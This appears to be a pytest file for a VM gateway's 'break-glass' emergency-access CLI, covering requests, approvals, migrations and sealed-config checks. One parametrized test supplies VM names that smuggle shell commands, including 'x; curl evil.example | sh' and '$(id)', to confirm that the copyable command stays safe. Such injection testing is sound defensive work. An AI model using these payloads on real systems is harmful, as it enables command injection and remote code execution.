"""`sealane break-glass` as processes of their own against a real gateway: the night as an operator lives it."""

from __future__ import annotations

import shlex
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from gateway.cli.break_glass import command_of
from gateway.cli.replies import GrantReply, NamedPerson, VmOfGrant
from gateway.starter import Site
from tests.gateway.break_glass.conftest import PASSWORD, with_break_glass
from tests.gateway.cli.conftest import Sealane, last_object, only_error_line
from tests.gateway.cli.test_real_gateway import Person
from tests.gateway.conftest import UUID_LEDGER, Running, running_gateway

pytestmark = pytest.mark.whole

REQUEST = ("break-glass", "request", "ledger", "--to", "prod2", "--ticket", "INC-1", "--reason", "fire", "--minutes", 9)


@pytest.fixture
async def glass(site: Site) -> AsyncIterator[Running]:
    async with running_gateway(with_break_glass(site)) as running:
        yield running


def at_a_shell(running: Running, name: str, folder: Path) -> Person:
    home = folder / f"home-{name}"
    (home / ".config" / "sealane").mkdir(parents=True)
    settings = f'gateway = "{running.url}"\nca = "{running.site.ca}"\n'
    (home / ".config" / "sealane" / "client.toml").write_text(settings, encoding="utf-8")
    return Person(running, name, home)


async def test_the_night_when_the_directory_is_down(glass: Running, tmp_path: Path) -> None:
    officer, manager = (at_a_shell(glass, name, tmp_path) for name in ("sealed-officer", "sealed-manager"))
    password = tmp_path / "password"
    password.touch(0o600)
    password.write_text(PASSWORD + "\n", encoding="utf-8")
    for each in (officer, manager):
        await each.sealane("login", "--sealed", "--user", each.name, "--password-file", password)

    asked = (await officer.sealane(*REQUEST, "--json")).document
    assert asked["state"] == "pending"
    grant = asked["id"]
    refused = await officer.sealane("break-glass", "approve", grant, "--yes", expected=1)
    assert "Forbidden" in refused.stderr or "denied" in refused.stderr
    approved = await manager.sealane("break-glass", "approve", grant, "--yes")
    assert "asked by  Olaf Other" in approved.stdout
    assert f"sealane migrate ledger --to prod2 --reason INC-1 --break-glass {grant}" in approved.stdout
    shown = await manager.sealane("break-glass", "list")
    assert grant in shown.stdout
    assert "sealane-sealed#sealed-manager" in shown.stdout

    await glass.poll("prod")
    move = ("migrate", "ledger", "--to", "prod2", "--reason", "INC-1", "--break-glass", grant, "--wait-seconds", 1)
    moved = await officer.sealane(*move, "--json", expected=1)
    assert moved.document["error"]["code"] == "still_running"
    (order,) = await glass.poll("prod")
    assert glass.open_permit(order["permit"]).claims.vm == asked["vm"]["uuid"]
    ended = await manager.sealane("break-glass", "end", grant, "--reason", "enough", "--json")
    assert ended.document["ended_because"] == "ended"


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("ledger-1.prod", "ledger-1.prod"),
        ("x; curl evil.example | sh", UUID_LEDGER),
        ("$(id)", UUID_LEDGER),
        ("--gateway=https://evil.example", UUID_LEDGER),
        ("zürich", UUID_LEDGER),
        ("", UUID_LEDGER),
    ],
)
def test_the_command_that_is_shown_to_be_copied_is_one_whatever_the_vm_is_called(name: str, shown: str) -> None:
    grant = GrantReply(
        id="5f3a90c1",
        state="approved",
        vm=VmOfGrant(uuid=UUID_LEDGER, name=name),
        source="spiffe://sealane.example/host/a",
        destination="spiffe://sealane.example/host/b",
        requested_by=NamedPerson(id="i#dora", name="Dora"),
        requested_at=1,
        ticket="INC#1",
        reason="fire",
        minutes=1,
        ports=("memory",),
        answer_until=2,
        record_index=3,
    )
    words = ["sealane", "migrate", shown, "--to", "b", "--reason", "INC#1", "--break-glass", "5f3a90c1"]
    assert shlex.split(command_of(grant), comments=True) == words


def test_sealing_prints_what_the_configuration_needs(sealane: Sealane, site: Site) -> None:
    file = with_break_glass(site).directory / "sealed.toml"
    document = last_object(sealane("break-glass", "seal", file, "--json"))
    assert document["people_sha256"] in site.gateway_config.read_text(encoding="utf-8")
    assert "sealed-manager" in document["people"]
    file.chmod(0o644)
    refused = sealane("break-glass", "seal", file)
    assert refused.exit_code == 2
    assert "chmod 600" in only_error_line(refused)
